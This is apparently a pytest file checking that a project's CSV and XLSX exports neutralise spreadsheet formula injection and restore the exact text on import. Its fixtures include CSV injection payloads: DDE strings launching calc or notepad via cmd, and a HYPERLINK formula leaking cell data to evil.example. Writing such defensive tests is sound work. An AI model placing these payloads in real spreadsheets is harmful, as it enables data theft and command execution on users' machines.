"""CSV injection (issue #9): every CSV the project writes neutralises cells that would start a
formula (OWASP: a leading apostrophe), our importer reads them back to the exact text, and the
XLSX export keeps such text as text, never a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from actionbot.cli import main
from bot.report import build_report
from cards.plan_export import export_plan
from cards.report_sheets import render_csv
from domain.clock import FixedClock
from storage import repo
from storage.csv_cells import FORMULA_STARTS, neutralise, restore
from storage.db import session_scope
from storage.importers import import_plan_file
from storage.models import Action, ActionUpdate, Person, Priority
from storage.reference import REFERENCE_KEY
from tests.conftest import copy_sqlite

NOW = datetime(2016, 9, 14, 9, 0, tzinfo=UTC)
HOSTILE = {
    "4.1.1": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "4.1.2": "=cmd|' /C calc'!A0",
    "4.1.3": "+1+cmd|' /C calc'!A0",
    "4.1.4": "-2+3",
    "4.2.1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "4.2.2": "'=already quoted",
}
NOTE = "=cmd|' /C notepad'!A0 and the rest of the update"


def _plant(engine) -> None:
    with session_scope(engine) as s:
        for ref, text in HOSTILE.items():
            s.exec(select(Action).where(Action.ref == ref)).one().text = text
        action = s.exec(select(Action).where(Action.ref == "4.2.1")).one()
        s.add(ActionUpdate(action_id=action.id, at=NOW, author_key="hos-scp", rag="amber", note=NOTE, channel="test"))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@risk", "'@risk"),
        ("\tindent", "'\tindent"),
        ("\rline", "'\rline"),
        ("'=x", "''=x"),
        ("'Tis done", "'Tis done"),
        ("Review = done", "Review = done"),
        ("", ""),
    ],
)
def test_neutralise_and_restore_are_exact_inverses(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_numbers_are_not_neutralised():
    assert neutralise(-2) == -2 and neutralise(3.5) == 3.5 and neutralise(None) is None


def test_plan_csv_export_neutralises_formulas_and_imports_back_exactly(reference_any_engine, tmp_path):
    _plant(reference_any_engine)
    clock = FixedClock(NOW)
    out = tmp_path / "plan.csv"
    assert export_plan(reference_any_engine, clock, fmt="csv", output=str(out), plan_key=REFERENCE_KEY) == 0

    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (row["action_id"], column, cell)
    by_ref = {r["action_id"]: r for r in rows}
    assert by_ref["4.1.2"]["title"] == "'=cmd|' /C calc'!A0"
    assert by_ref["4.2.2"]["title"] == "''=already quoted"
    assert by_ref["4.2.1"]["last_update"] == "'" + NOTE

    import_plan_file(reference_any_engine, clock, out, plan_key="copy")
    with Session(reference_any_engine) as s:
        plan = repo.active_plan(s, "copy")
        texts = {a.ref: a.text for a in repo.plan_actions(s, plan.id)}
    assert {ref: texts[ref] for ref in HOSTILE} == HOSTILE


def test_xlsx_export_keeps_formula_like_text_as_text(reference_engine, tmp_path):
    _plant(reference_engine)
    out = tmp_path / "plan.xlsx"
    assert export_plan(reference_engine, FixedClock(NOW), fmt="xlsx", output=str(out), plan_key=REFERENCE_KEY) == 0
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula
    ws = load_workbook(out).active
    cells = {row[0].value: row[3] for row in ws.iter_rows(min_row=2)}
    for ref, text in HOSTILE.items():
        assert (cells[ref].value, cells[ref].data_type) == (text, "s"), ref
    notes = [row[12] for row in ws.iter_rows(min_row=2) if row[0].value == "4.2.1"]
    assert (notes[0].value, notes[0].data_type) == (NOTE, "s")


def test_report_csv_neutralises_titles_but_keeps_negative_numbers(reference_engine):
    with session_scope(reference_engine) as s:
        s.exec(select(Priority).where(Priority.number == 4)).one().title = '=HYPERLINK("http://evil")'
    with Session(reference_engine) as s:
        report = build_report(s, repo.active_plan(s), "2016-09")
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert next(r for r in rows if r["priority"] == "4")["title"] == '\'=HYPERLINK("http://evil")'
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                assert re.fullmatch(r"-\d+(\.\d+)?", cell), (column, cell)  # a number, left alone


def test_preview_csv_neutralises_names(reference_engine, tmp_path, capsys, monkeypatch):
    for name in ("SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET", "SLACK_APP_TOKEN", "MICROSOFT_APP_ID", "ACTIONBOT_POLICY"):
        monkeypatch.delenv(name, raising=False)
    with session_scope(reference_engine) as s:
        s.exec(select(Person).where(Person.key == "dcs")).one().name = "=cmd|' /C calc'!A0"
    path = tmp_path / "preview.db"
    copy_sqlite(reference_engine, path)
    args = ["--database-url", f"sqlite:///{path}", "preview", "--from", "2016-09-01", "--to", "2016-09-02"]
    assert main([*args, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert "'=cmd|' /C calc'!A0" in {r["name"] for r in rows if r["recipient"] == "dcs"}
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
